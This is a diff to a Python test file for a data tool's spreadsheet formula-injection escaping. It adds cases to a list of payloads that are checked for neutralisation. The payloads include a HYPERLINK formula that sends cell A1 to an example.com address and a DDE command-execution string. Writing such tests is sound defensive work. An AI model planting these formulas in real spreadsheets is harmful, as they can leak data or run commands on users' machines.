@@ -5,7 +5,7 @@ from pathlib import Path
 
 import polars as pl
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from datainsight.cli import main
@@ -17,7 +17,20 @@ FORMULA = '=HYPERLINK("http://example.com?x="&A1,"here")'
 
 @pytest.mark.parametrize(
     "cell",
-    [FORMULA, "=1+1", "+41-44-123", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "－1+1", "＝1", "+cmd|' /C calc'!A0"],
+    [
+        FORMULA,
+        "=1+1",
+        "+41-44-123",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "－1+1",
+        "＝1",
+        "+cmd|' /C calc'!A0",
+        "=\n",
+        "-5\n",
+    ],
 )
 def test_what_would_be_calculated_is_text(cell: str) -> None:
     assert as_text(cell) == f"'{cell}"
@@ -30,6 +43,7 @@ def test_plain_numbers_and_signs_stay(cell: str) -> None:
     assert as_text(cell) == cell
 
 
+@example(["=\n", "-5\n", "-\n1"])
 @given(st.lists(st.text(alphabet="=+-@\t\r\n＝'. ,%eE019aé", max_size=6) | st.none(), max_size=8))
 def test_both_engines_read_the_patterns_alike(cells: list[str | None]) -> None:
     frame = pl.DataFrame({"^=a$": pl.Series(cells, dtype=pl.String), "*": pl.Series(range(len(cells)))})
